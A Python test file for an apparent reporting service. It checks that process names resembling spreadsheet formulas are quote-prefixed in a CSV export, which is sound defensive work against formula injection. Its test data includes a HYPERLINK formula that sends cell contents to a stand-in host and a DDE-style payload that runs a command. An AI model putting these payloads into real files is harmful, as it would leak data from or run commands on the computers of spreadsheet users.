"""The track record's CSV opened in a spreadsheet (security review): a process's name is written by
whichever organisation made the process, so a name that a spreadsheet would read as a formula is
quoted, as the roster's export quotes its cells."""

from __future__ import annotations

import csv
import io
from datetime import date

from msnet.reports import schemas, service


def _figures() -> schemas.Figures:
    spread = schemas.Spread(median=None, p90=None)
    return schemas.Figures(
        requests=1,
        offers=0,
        offers_accepted=0,
        declines=0,
        delivered=0,
        not_delivered=0,
        experts=0,
        first_response_hours=spread,
        acceptance_hours=spread,
        not_delivered_reasons=[],
    )


def test_a_process_name_like_a_formula_is_quoted_in_the_csv() -> None:
    names = [
        '=HYPERLINK("https://evil.example/?"&A1,"Mali")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2+3",
        "Mali",
    ]
    rows = [
        schemas.TrackRecordRow(key=f"k{i}", label=name, asked=_figures(), received=_figures(), trainings=None)
        for i, name in enumerate(names)
    ]
    record = schemas.TrackRecord(
        organisation="au",
        from_=date(2027, 1, 1),
        to=date(2027, 12, 31),
        group_by="process",
        filters=schemas.TrackRecordFilters(
            office_id=None, theme=None, service_type=None, region=None, country=None, process_id=None
        ),
        rows=rows,
        total=schemas.TrackRecordRow(
            key="total", label=None, asked=_figures(), received=_figures(), trainings=None
        ),
    )
    read = list(csv.DictReader(io.StringIO(service.track_record_csv(record))))
    assert [row["label"] for row in read] == [
        "'" + names[0],
        "'" + names[1],
        "'" + names[2],
        "'" + names[3],
        "Mali",
        "",
    ]
